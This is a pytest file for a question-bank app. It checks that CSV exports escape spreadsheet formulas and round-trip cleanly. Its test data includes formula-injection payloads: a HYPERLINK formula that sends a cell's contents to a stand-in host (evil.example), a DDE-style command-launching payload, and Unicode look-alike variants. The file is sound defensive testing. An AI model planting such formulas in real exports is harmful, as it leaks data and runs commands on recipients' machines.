"""Every CSV export is formula-safe: spreadsheet formulas are written as text."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command

from questions.formats import csvfmt
from questions.formats.common import ImportFile, ParsedQuestion, sanitize_html
from questions.formats.spreadsheet import formula_safe, writer
from questions.importing import scan
from questions.models import Bank

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '＝HYPERLINK("http://evil.example")',
    "＋1",
    "－1",
    "＠SUM(A1)",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_cells_get_a_leading_apostrophe(value):
    assert formula_safe(value) == "'" + value


@pytest.mark.parametrize("value", [-3, -2.5, 0, 17, 0.25, "-3", "-2.50", "12", "plain text", ""])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert formula_safe(value) == value


def test_the_writer_escapes_every_cell():
    out = io.StringIO()
    w = writer(out)
    w.writerow(["=1+1", -4, "-4.5", "ok"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "-4", "-4.5", "ok"]


def _question(text: str) -> ParsedQuestion:
    return ParsedQuestion(
        external_id="=ID()",
        stem_html=text,
        options=[{"text": "@opt", "explanation": ""}, {"text": "－2", "explanation": ""}],
        key_index=0,
        source="+src",
    )


@pytest.mark.parametrize("value", HOSTILE[:4] + HOSTILE[6:])
def test_bank_csv_export_is_formula_safe_and_round_trips(value):
    out = io.StringIO()
    csvfmt.write([_question(value)], out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    cells = [c for c in rows[1] if c]
    assert all(not c.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")) for c in cells), cells
    result = scan([ImportFile("back.csv", out.getvalue().encode())], format="csv", sample=1)
    assert result.problems == []
    (back,) = result.sample
    assert (back.external_id, back.stem_html, back.source) == (
        "=ID()",
        sanitize_html(value),
        "+src",
    )
    assert [o["text"] for o in back.options] == ["@opt", "－2"]


def test_apostrophes_typed_by_authors_survive_the_round_trip():
    for value in ["'=not a formula", "'quoted'", "''=x"]:
        out = io.StringIO()
        csvfmt.write([_question(value)], out)
        result = scan([ImportFile("back.csv", out.getvalue().encode())], format="csv", sample=1)
        assert result.sample[0].stem_html == value


@pytest.mark.django_db
def test_cli_csv_export_is_formula_safe(tmp_path):
    from tests.exams.conftest import make_question

    bank = Bank.objects.create(slug="csv-bank", name="CSV bank")
    question = make_question(bank, 1, discipline="medicine", system="cardiovascular")
    version = question.current_version
    version.stem_html = '=HYPERLINK("http://evil.example","x")'
    version.save()
    path = tmp_path / "out.csv"
    call_command("export_questions", bank="csv-bank", format="csv", output=str(path))
    rows = list(csv.reader(path.open(encoding="utf-8-sig")))
    stem = rows[1][rows[0].index("stem")]
    assert stem == "'" + '=HYPERLINK("http://evil.example","x")'


def test_analytics_csv_uses_the_shared_helper():
    from teach.views import insights

    response = insights._csv_response(
        "x.csv", ["label", "value"], [["＝HYPERLINK(1)", -12.5], ["-3", 4]]
    )
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1:] == [["'＝HYPERLINK(1)", "-12.5"], ["-3", "4"]]
